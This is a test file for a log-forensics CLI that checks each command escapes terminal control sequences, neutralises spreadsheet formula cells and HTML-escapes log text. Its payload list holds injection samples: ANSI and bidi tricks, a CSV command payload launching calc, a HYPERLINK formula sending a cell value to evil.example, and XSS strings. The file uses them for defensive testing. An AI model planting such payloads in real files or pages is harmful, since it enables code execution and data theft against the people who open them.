/**
 * Output injection: log text is written by whoever sent the request. On every command that
 * prints it, terminal control sequences (ESC [ ... m, OSC titles, CR overwrite, BEL,
 * backspace, C1, bidi overrides) never reach the terminal raw; CSV formula cells are
 * neutralised; HTML is escaped. A guard test fails when a command appears that this file
 * does not exercise.
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { CLI_BIN, REPO_ROOT, runCli, tempDir, type CliResult } from '../helpers';
import { clfTime, runCliInProcess, writeBytes } from './robustness-helpers';

/** What must never reach a terminal raw: C0 controls but tab and newline, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
const TERMINAL_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const TARGET = '/admin/export/donors-2026.csv';
const CLIENT = '203.0.113.66';
const PAYLOADS: readonly string[] = [
  '\u001b[2J\u001b[31mRED\u001b[0m',
  '\u001b]0;pwned\u0007title',
  'ok\rFAKE OUTPUT',
  'back\b\b\bspace',
  'invoice\u202efdp.exe',
  '\u2066isolate\u2069',
  '\u009b31mC1',
  'nul\u0000byte',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '<script>alert("x")</script><img src=x onerror=alert(1)>',
];

/** A combined log where every payload is in the user agent, the referrer and the query string of a request for TARGET. */
function hostileTargetLog(): Buffer {
  const quoted = (text: string): string => text.replace(/\\/g, '\\\\').replace(/"/g, '\\"');
  const lines = PAYLOADS.map((payload, i) => {
    const time = clfTime(Date.UTC(2026, 10, 21, 10, i * 40));
    return `${CLIENT} - - [${time}] "GET ${TARGET}?q=${encodeURIComponent(payload)}&raw=${payload.replace(/[\s"]/g, '_')} HTTP/1.1" 200 48213 "${quoted(payload)}" "${quoted(payload)}"`;
  });
  lines.push(`${CLIENT} - - [${clfTime(Date.UTC(2026, 10, 21, 20, 0))}] "GET ${TARGET} HTTP/1.1" 404 0 "-" "${quoted(PAYLOADS[0]!)}"`);
  lines.push(`garbage ${PAYLOADS.join(' ')}`);
  return Buffer.from(lines.join('\n') + '\n', 'utf8');
}

function assertTerminalSafe(result: CliResult, what: string): void {
  for (const [stream, text] of [['stdout', result.stdout], ['stderr', result.stderr]] as const) {
    const found = TERMINAL_UNSAFE.exec(text);
    assert.equal(found, null, `${what}: ${stream} holds a raw U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')} near ${JSON.stringify(text.slice(Math.max(0, (found?.index ?? 0) - 30), (found?.index ?? 0) + 30))}`);
  }
}

/** Every CSV cell a spreadsheet would run as a formula must be neutralised. */
function assertCsvNeutral(csv: string, what: string): void {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  assert.ok(rows.length > 1, `${what}: CSV has rows`);
  for (const row of rows) {
    for (const cell of row) {
      if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))) {
        assert.fail(`${what}: CSV cell would run as a formula: ${JSON.stringify(cell.slice(0, 60))}`);
      }
    }
  }
}

describe('robustness: output injection on every command', function () {
  this.timeout(120_000);
  let dir: string;
  let casePath: string;
  let logPath: string;
  const run = (args: string[]): Promise<CliResult> => runCliInProcess([...args, '--case', casePath]);

  before(function () {
    dir = tempDir('logwitness-inject-');
    casePath = join(dir, 'case.sqlite');
    // The file name is hostile too: it is printed by ingest, sources, downloads, pack...
    logPath = writeBytes(join(dir, 'access\u001b[31m\u202e.log'), hostileTargetLog());
  });

  const covered = new Set<string>();
  const command = (name: string, title: string, body: () => void): void => {
    covered.add(name);
    it(`${name}: ${title}`, body);
  };

  command('ingest', 'table, CSV and JSON output and stderr are terminal-safe, in a real process too', async function () {
    // Once as a real process, then in-process like the other commands.
    const real = runCli(['ingest', logPath, '--case', casePath]);
    assert.equal(real.status, 0, real.stderr);
    assertTerminalSafe(real, 'ingest (process)');
    const table = await run(['ingest', logPath]);
    assert.equal(table.status, 0, table.stderr);
    assertTerminalSafe(table, 'ingest');
    assert.match(table.stdout, /access\\x1b\[31m\\u202e\.log/, 'the file name is shown, escaped');
    const json = await run(['ingest', logPath, '--json']);
    assertTerminalSafe(json, 'ingest --json');
    assert.equal(JSON.parse(json.stdout).files[0].path, logPath, 'JSON carries the exact name');
  });

  command('sources', 'table and JSON are terminal-safe, CSV neutralised', async function () {
    assertTerminalSafe(await run(['sources']), 'sources');
    assertTerminalSafe(await run(['sources', '--json']), 'sources --json');
    assertCsvNeutral((await run(['sources', '--csv'])).stdout, 'sources --csv');
  });

  command('sql', 'every logged field, in table and JSON, is terminal-safe; CSV neutralised', async function () {
    const query = 'SELECT source_path, user_name, target, referrer, user_agent FROM request_view UNION ALL SELECT reason, raw, NULL, NULL, NULL FROM rejects';
    const table = await run(['sql', query]);
    assert.equal(table.status, 0, table.stderr);
    assertTerminalSafe(table, 'sql');
    assert.match(table.stdout, /\\x1b\[2J\\x1b\[31mRED/, 'the payload is shown, escaped');
    const json = await run(['sql', query, '--json']);
    assertTerminalSafe(json, 'sql --json');
    const agents = (JSON.parse(json.stdout) as { user_agent: string | null }[]).map((row) => row.user_agent);
    for (const payload of PAYLOADS) assert.ok(agents.includes(payload), `JSON keeps the exact value ${JSON.stringify(payload)}`);
    const csv = await run(['sql', query, '--csv']);
    assertCsvNeutral(csv.stdout, 'sql --csv');
    // A SQL error quoting hostile text is one escaped line on stderr.
    const error = await run(['sql', 'SELECT \u001b[31m FROM x\u009b']);
    assert.equal(error.status, 1);
    assertTerminalSafe(error, 'sql error');
  });

  command('sql (terminal)', 'CSV written to a terminal is escaped too', async function () {
    if (!existsSync('/usr/bin/script')) return this.skip();
    // util-linux script(1) gives the CLI a pseudo-terminal as stdout.
    const inner = [process.execPath, CLI_BIN, 'sql', 'SELECT user_agent FROM request_view', '--csv', '--case', casePath].map((arg) => `'${arg.replace(/'/g, "'\\''")}'`).join(' ');
    const result = spawnSync('script', ['-qec', inner, '/dev/null'], { cwd: REPO_ROOT, encoding: 'utf8', env: { ...process.env, LOGWITNESS_CASE: '' } });
    if (result.error || (result.status !== 0 && /script/.test(result.stderr))) return this.skip();
    assert.equal(result.status, 0, result.stderr);
    // The terminal's own line endings are CRLF: drop those before looking for raw CRs.
    assertTerminalSafe({ status: 0, stdout: result.stdout.replace(/\r+\n/g, "\n"), stderr: result.stderr }, 'sql --csv on a terminal');
    assert.match(result.stdout, /\\x1b\[2J/);
  });

  command('formats', 'is terminal-safe', async function () {
    assertTerminalSafe(await run(['formats']), 'formats');
  });

  for (const name of ['downloads', 'timeline'] as const) {
    command(name, 'table, CSV and JSON are terminal-safe; CSV neutralised', async function () {
      const table = await run([name, TARGET]);
      assert.equal(table.status, 0, table.stderr);
      assertTerminalSafe(table, name);
      assertTerminalSafe(await run([name, TARGET, '--json']), `${name} --json`);
      const csv = await run([name, TARGET, '--csv']);
      assert.equal(csv.status, 0, csv.stderr);
      assertCsvNeutral(csv.stdout, `${name} --csv`);
    });
  }

  command('actor', 'table, CSV and JSON are terminal-safe; CSV neutralised', async function () {
    const table = await run(['actor', CLIENT]);
    assert.equal(table.status, 0, table.stderr);
    assertTerminalSafe(table, 'actor');
    assertTerminalSafe(await run(['actor', CLIENT, '--json']), 'actor --json');
    const csv = await run(['actor', CLIENT, '--csv']);
    assertCsvNeutral(csv.stdout, 'actor --csv');
  });

  command('geo', 'is terminal-safe', async function () {
    const result = await run(['geo', CLIENT]);
    if (/Unknown (argument|command)|geo/.test(result.stderr) && result.status === 1 && !result.stdout) return this.skip();
    assertTerminalSafe(result, 'geo');
    assertTerminalSafe(await run(['geo', CLIENT, '--json']), 'geo --json');
  });

  command('enrich', 'table, JSON and warnings are terminal-safe', async function () {
    const table = await run(['enrich']);
    assert.equal(table.status, 0, table.stderr);
    assertTerminalSafe(table, 'enrich');
    assertTerminalSafe(await run(['enrich', '--json']), 'enrich --json');
  });

  command('pack', 'the pack escapes HTML and neutralises CSV, and the command and verify print safely', async function () {
    const out = join(dir, 'pack');
    const result = await run(['pack', TARGET, '--out', out]);
    assert.equal(result.status, 0, result.stderr);
    assertTerminalSafe(result, 'pack');
    const files: string[] = [];
    const walk = (folder: string): void => {
      for (const name of readdirSync(folder)) {
        const path = join(folder, name);
        if (statSync(path).isDirectory()) walk(path);
        else files.push(path);
      }
    };
    walk(out);
    const html = files.filter((file) => file.endsWith('.html'));
    assert.ok(html.length > 0, 'the pack has an HTML report');
    for (const file of html) {
      const text = readFileSync(file, 'utf8');
      assert.doesNotMatch(text, /<script>alert|<img src=x onerror/i, `${file}: log text is HTML-escaped`);
      assert.match(text, /&lt;script&gt;alert/, `${file}: the payload is shown, escaped`);
      // A bidi override would reorder what the reader sees (invoice<RLO>fdp.exe reads "invoiceexe.pdf").
      const unsafe = TERMINAL_UNSAFE.exec(text.replace(/\r\n/g, '\n'));
      assert.equal(unsafe, null, `${file}: raw U+${unsafe?.[0].charCodeAt(0).toString(16).padStart(4, '0')} in the HTML`);
    }
    for (const file of files.filter((f) => f.endsWith('.csv'))) assertCsvNeutral(readFileSync(file, 'utf8'), file);
    assertTerminalSafe(await run(['verify', out]), 'verify');
    assertTerminalSafe(await run(['verify', out, '--json']), 'verify --json');
  });

  covered.add('verify'); // exercised on the pack above

  it('usage errors that quote hostile arguments (a file name, a zone, an unknown option) print one escaped line', async function () {
    for (const args of [
      ['ingest', join(dir, 'missing\u001b[2J\u202e.log')],
      ['sources', '--tz', '\u001b]0;pwned\u0007'],
      ['sources', '--\u001b[31mcolour'],
      ['downloads', '/x', '--window', '\u009b5m'],
    ]) {
      const result = await run(args);
      assert.equal(result.status, 1, `${JSON.stringify(args)}: ${result.stderr}`);
      assert.equal(result.stderr.trim().split('\n').length, 1, result.stderr);
      assertTerminalSafe(result, JSON.stringify(args));
    }
  });

  it('covers every command the CLI lists', function () {
    const help = runCli(['--help']).stdout;
    const listed = [...help.matchAll(/^\s+logwitness (\w+)/gm)].map((match) => match[1]!);
    assert.ok(listed.length >= 4, help);
    for (const name of listed) assert.ok(covered.has(name), `command "${name}" prints output but has no output-injection test here: add one`);
  });
});
